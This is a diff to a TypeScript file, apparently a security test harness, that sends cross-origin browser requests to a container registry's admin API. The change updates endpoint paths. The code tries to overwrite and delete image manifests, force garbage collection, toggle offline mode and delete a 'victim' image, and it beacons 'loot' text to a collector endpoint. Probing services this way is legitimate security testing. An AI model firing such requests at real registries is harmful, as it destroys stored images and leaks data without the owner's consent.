@@ -36,8 +36,8 @@ export function simpleRequests(registry: string, loot: Loot): string {
     const admin = (path, body) => fetch(registry + "/api/v1/" + path, { method: "POST", mode: "no-cors", body });
     const attempts = [
       fetch(place("no-cors"), { method: "POST", mode: "no-cors", body: loot.text }),
-      admin("gc", '{"graceMs":0}'),
-      admin("remove", JSON.stringify({ image: "local/" + loot.victim.name + ":" + loot.victim.tag })),
+      admin("collections", '{"graceMs":0}'),
+      admin("fetches", JSON.stringify({ image: "quay.io/any:1", platforms: "all" })),
     ];
     await Promise.allSettled(attempts);
     return navigator.sendBeacon(place("beacon"), loot.text);
@@ -59,10 +59,9 @@ export function scriptedRequests(registry: string, loot: Loot): string {
       "PUT manifest": [victim + "/manifests/" + loot.victim.tag, { method: "PUT", headers: manifestType, body: loot.manifest }],
       "DELETE tag": [victim + "/manifests/" + loot.victim.tag, { method: "DELETE" }],
       "DELETE manifest": [victim + "/manifests/" + loot.victim.digest, { method: "DELETE" }],
-      "PUT offline": [registry + "/api/v1/offline", { method: "PUT", headers: json, body: '{"offline":false}' }],
-      "POST gc": [registry + "/api/v1/gc", { method: "POST", headers: json, body: '{"graceMs":0}' }],
-      "POST remove": [registry + "/api/v1/remove", { method: "POST", headers: json,
-        body: JSON.stringify({ image: "local/" + loot.victim.name + ":" + loot.victim.tag }) }],
+      "PUT offline": [registry + "/api/v1/settings/offline", { method: "PUT", headers: json, body: '{"offline":false}' }],
+      "POST collections": [registry + "/api/v1/collections", { method: "POST", headers: json, body: '{"graceMs":0}' }],
+      "DELETE image": [registry + "/api/v1/images/local/" + loot.victim.name + ":" + loot.victim.tag, { method: "DELETE" }],
     };
     const outcomes = [];
     for (const [name, [url, init]] of Object.entries(tries)) {
